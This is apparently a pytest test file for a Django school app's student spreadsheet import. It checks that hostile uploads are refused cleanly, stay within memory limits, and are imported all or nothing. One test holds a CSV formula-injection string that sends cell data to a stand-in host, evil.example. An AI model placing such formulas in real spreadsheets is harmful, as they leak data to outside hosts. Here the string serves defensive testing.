"""Hostile files at the cohort import, through the page as a coordinator uploads them.

Every file of `hostile_files` gets a clear Dutch answer (on the upload page or on the check
page after the background check), never a 500; nothing is written (no user, no student, no
batch that could be read in) and the peak of Python memory while handling it stays far below
100 MB (tracemalloc; the figures are printed, run with -s to see them).
"""

from __future__ import annotations

import io
import tracemalloc

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.models import Role, User
from accounts.tests.factories import UserFactory
from spreadsheets.importing import import_apply, import_preview
from spreadsheets.models import ImportBatch, ImportStatus
from students.models import Student

from .conftest import School
from .hostile_files import ROW, csv_bytes, hostile_files, xlsx_bytes

MB = 1024 * 1024


def _upload(client: Client, name: str, data: bytes, capture) -> tuple[int, str]:
    """POST the file and follow to the page the coordinator ends on (tasks run on commit)."""
    with capture(execute=True):
        response = client.post(
            reverse("spreadsheets:upload", kwargs={"kind": "students"}),
            {"file": SimpleUploadedFile(name, data)},
        )
    if response.status_code == 302:
        response = client.get(response["Location"])
    return response.status_code, response.content.decode()


@pytest.mark.django_db
def test_every_hostile_file_is_refused_clearly_and_nothing_is_written(
    school: School, django_capture_on_commit_callbacks
) -> None:
    coordinator = UserFactory.create(role=Role.COORDINATOR, institution=school.institution)
    client = Client()
    client.force_login(coordinator)
    users, students = User.objects.count(), Student.objects.count()
    files = hostile_files()
    refused, peaks = 0, {}
    for label, name, data, words in files:
        status, page = _upload(client, name, data, django_capture_on_commit_callbacks)
        assert status == 200, label
        assert words in page, (label, page[page.find("<main") :][:1500])
        refused += 1
        # Memory of the service path the request and the task take (the test client itself
        # holds the whole multipart body, which a real server streams to a temporary file).
        tracemalloc.start()
        with pytest.raises(ValidationError):
            batch = import_preview(
                kind="students", fh=io.BytesIO(data), filename=name, user=coordinator
            )
            if batch.errors:
                raise ValidationError("cell errors")
        peaks[label] = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    readable = ImportBatch.objects.filter(status=ImportStatus.PREVIEW, errors=[]).count()
    assert (User.objects.count(), Student.objects.count(), readable) == (users, students, 0)
    worst = max(peaks, key=lambda k: peaks[k])
    print(
        f"\nhostile files refused: {refused}/{len(files)}; worst memory peak "
        f"{peaks[worst] / MB:.1f} MB ({worst})"
    )
    assert all(peak < 100 * MB for peak in peaks.values()), peaks


@pytest.mark.django_db
def test_formula_text_in_a_csv_is_kept_as_text(school: School) -> None:
    """A cell that merely starts with = is data: it is stored as written; exports neutralise
    it (spreadsheets/tests/test_exports.py)."""
    coordinator = UserFactory.create(role=Role.COORDINATOR, institution=school.institution)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    data = csv_bytes([[ROW[0], evil, *ROW[2:]]])
    batch = import_preview(
        kind="students", fh=io.BytesIO(data), filename="cohort.csv", user=coordinator
    )
    assert batch.errors == []
    import_apply(batch=batch, user=coordinator)
    assert Student.objects.get(student_number=ROW[0]).user.full_name.startswith(evil)


@pytest.mark.django_db
def test_the_page_imports_in_the_background_with_progress_all_or_nothing(
    school: School, django_capture_on_commit_callbacks
) -> None:
    coordinator = UserFactory.create(role=Role.COORDINATOR, institution=school.institution)
    client = Client()
    client.force_login(coordinator)
    rows = [
        [f"4{i:05d}", "Student", f"Nr {i}", f"t{i}@example.nl", 25604, "BOL", 2026]
        for i in range(30)
    ]
    # Without running the task the page shows the progress bar and the status answers JSON.
    response = client.post(
        reverse("spreadsheets:upload", kwargs={"kind": "students"}),
        {"file": SimpleUploadedFile("cohort.xlsx", xlsx_bytes(rows))},
    )
    batch = ImportBatch.objects.latest("pk")
    assert batch.status == ImportStatus.RECEIVED and len(batch.content) > 0
    page = client.get(response["Location"]).content.decode()
    assert "data-progress-url" in page and "wordt gecontroleerd" in page
    status = client.get(reverse("spreadsheets:status", kwargs={"pk": batch.pk})).json()
    assert status == {"status": "received", "progress": 0, "finished": False}

    from spreadsheets.importing import import_check

    import_check(batch_id=batch.pk)
    batch.refresh_from_db()
    assert batch.status == ImportStatus.PREVIEW and batch.content == b"" and batch.progress == 100
    assert batch.summary == {"new": 30, "unchanged": 0}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("spreadsheets:apply", kwargs={"pk": batch.pk}))
    page = client.get(response["Location"]).content.decode()
    assert "Dit bestand is ingelezen: 30 nieuw" in page
    assert Student.objects.filter(student_number__startswith="4").count() == 30
    # A second POST changes nothing.
    client.post(reverse("spreadsheets:apply", kwargs={"pk": batch.pk}))
    assert Student.objects.filter(student_number__startswith="4").count() == 30


@pytest.mark.django_db
def test_a_batch_that_became_invalid_meanwhile_writes_nothing(
    school: School, django_capture_on_commit_callbacks
) -> None:
    """All or nothing: the rows are checked again when written; one bad row stops all."""
    coordinator = UserFactory.create(role=Role.COORDINATOR, institution=school.institution)
    rows = [[f"5{i:05d}", "A", "B", f"u{i}@example.nl", "25604", "BOL", "2026"] for i in range(5)]
    batch = import_preview(
        kind="students", fh=io.BytesIO(csv_bytes(rows)), filename="c.csv", user=coordinator
    )
    UserFactory.create(email="u3@example.nl")  # the address is taken before the import runs
    client = Client()
    client.force_login(coordinator)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("spreadsheets:apply", kwargs={"pk": batch.pk}))
    page = client.get(response["Location"]).content.decode()
    assert "niets opgeslagen" in page
    assert Student.objects.filter(student_number__startswith="5").count() == 0
    batch.refresh_from_db()
    assert batch.status == ImportStatus.PREVIEW
